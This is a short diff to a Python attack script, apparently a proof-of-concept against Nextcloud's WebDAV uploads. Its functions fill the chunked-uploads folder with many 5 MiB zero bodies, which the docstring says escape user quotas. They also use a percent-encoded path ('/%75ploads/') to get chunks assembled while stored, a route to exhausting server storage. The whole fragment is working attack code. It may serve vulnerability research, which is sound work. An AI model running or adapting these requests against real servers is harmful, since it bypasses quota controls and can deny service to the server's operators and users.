@@ -149,7 +149,7 @@ def bodies(attacker: Attacker) -> list[int]:
 
 def pieces(attacker: Attacker) -> list[int]:
     """Leave pieces in the folder of Nextcloud's uploads, where no quota of a user counts."""
-    url = attacker.files.replace("/files/", "/uploads/") + "attack"
+    url = attacker.uploads("attack")
     attacker.send("MKCOL", url)
     body = attacker.zeros(5 * MIB)
     return attacker.many(16, lambda n: attacker.send("PUT", f"{url}/{n:05}", body))
@@ -157,7 +157,7 @@ def pieces(attacker: Attacker) -> list[int]:
 
 def put_together(attacker: Attacker) -> int:
     """Have two pieces put together to a file while they are still there."""
-    url = attacker.files.replace("/files/", "/%75ploads/") + "together"
+    url = attacker.uploads("together").replace("/uploads/", "/%75ploads/")
     attacker.send("MKCOL", url)
     for number in range(2):
         attacker.send("PUT", f"{url}/{number:05}", attacker.zeros(5 * MIB))
